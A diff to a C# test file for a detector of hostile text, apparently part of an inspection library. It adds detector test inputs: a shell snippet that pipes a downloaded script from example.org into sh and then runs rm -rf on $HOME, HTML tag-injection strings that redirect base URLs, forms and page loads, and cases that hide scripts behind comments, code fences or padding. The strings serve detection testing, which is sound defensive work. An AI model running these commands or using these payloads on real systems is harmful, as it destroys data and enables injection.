@@ -5,6 +5,8 @@ namespace Gatehouse.Inspection.Tests.Text;
 
 public sealed class HostileTextTests
 {
+    private const string Script = "var a = 1;\nfunction go() {\n  alert(a);\n}\ngo();\n";
+    private const string Shell = "cd /tmp\ncurl -s http://example.org | sh\nrm -rf \"$HOME\"\n";
     private const string Prose = "Hello, my order has not come yet.\n";
 
     public static TheoryData<string, string> Markup => new()
@@ -52,6 +54,12 @@ public sealed class HostileTextTests
         { Prose + "<applet code=x>", "text/html" },
         { Prose + "<frame src=x>", "text/html" },
         { Prose + "<hta:application id=x>", "text/html" },
+        { Prose + "<base title='<b' href='//example.org/'>", "text/html" },
+        { Prose + "<form title=\"<b\" action=\"http://example.org/\">", "text/html" },
+        { Prose + "<meta name='<b' http-equiv=refresh content='0;url=x'>", "text/html" },
+        { Prose + "<svg><script id='<b' href='//example.org/x' />", "text/html" },
+        { Prose + "<base href='&sol;&bsol;example.org/'>", "text/html" },
+        { Prose + "<button formaction='https://example.org/'>", "text/html" },
         { "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html" },
         { "+ADwAaAB0AG0AbAA+-", "text/html" },
         { "+/v8-+ADw-html+AD4-", "text/html" },
@@ -86,6 +94,10 @@ public sealed class HostileTextTests
         "@e^cho off\r\ndir\r\n",
         "rem x\r\n:: y\r\n@echo off\r\n",
         "@setlocal\r\ndir\r\n",
+        "=@echo off\r\ndir\r\n",
+        ", @echo off\r\ndir\r\n",
+        "@cls\r\ndir\r\n",
+        "@title x&@echo off\r\ndir\r\n",
         "@\"%ComSpec%\" /c dir\r\n",
         "#!\t/bin/sh\n",
         "@rem It builds all\r\nmake\r\n",
@@ -95,6 +107,7 @@ public sealed class HostileTextTests
         "[InternetShortcut]\nURL=x\n",
         "[DEFAULT]\nBASEURL=https://example.org/\n[InternetShortcut]\nURL=x\n",
         ";x\n[InternetShortcut.W]\nURL=x\n",
+        "x\n[InternetShortcut]\nIconFile=x\n",
         "hello\n[InternetShortcut]\nurl = x\n",
         "# comment\n[Desktop Entry]\nExec=true\n",
         "[Shell]\nCommand=2\nIconFile=x\n",
@@ -117,6 +130,17 @@ public sealed class HostileTextTests
         "import os\nimport sys\n\ndef main():\n    print(os.name)\n\nmain()\n",
         "cd /tmp\ncurl -s http://example.org | sh\nrm -rf \"$HOME\"\n",
         "for f in *; do\n  rm -f \"$f\"\ndone\n",
+        "// \"\"\"\n" + Script,
+        "// '''\n" + Script,
+        "// x::\n " + Script.Replace("\n", "\n ", StringComparison.Ordinal),
+        "a('\"\"\"');\n" + Script,
+        "~~~\n" + Shell,
+        "```\n" + Shell + "```\n",
+        "# x::\n " + Shell.Replace("\n", "\n ", StringComparison.Ordinal),
+        Script.Replace('\n', '\r'),
+        "/*" + new string('x', 30_000) + "*/\n" + Script,
+        "/*" + string.Concat(Enumerable.Repeat("Words about it.\n", 1500)) + "*/\n" + Script,
+        string.Concat(Enumerable.Repeat(Prose, 490)) + string.Concat(Enumerable.Repeat(Script, 8000)),
         "\"\"\"Words about it,\nin many lines\nthat are prose.\n\"\"\"\n\nfrom os import (\n    getcwd,\n    listdir,\n)\n\n\n@once\ndef files():\n    names = listdir(getcwd())\n    return [n for n in names if n]\n",
         "/*\n  Words about it,\n  in many lines\n  that are prose.\n*/\nimport {\n  first,\n  second,\n} from \"./lists.js\"\n\nexport default async function go(list) {\n  const one = first(list)\n  await second(one)\n    .then(print)\n  return one\n}\n",
         "const colours = [\n  'a red one',\n  'a blue one',\n  'a green one',\n];\ncolours.forEach(print);\nprint(colours.length > 2\n  ? 'many of them'\n  : 'few of them');\n",
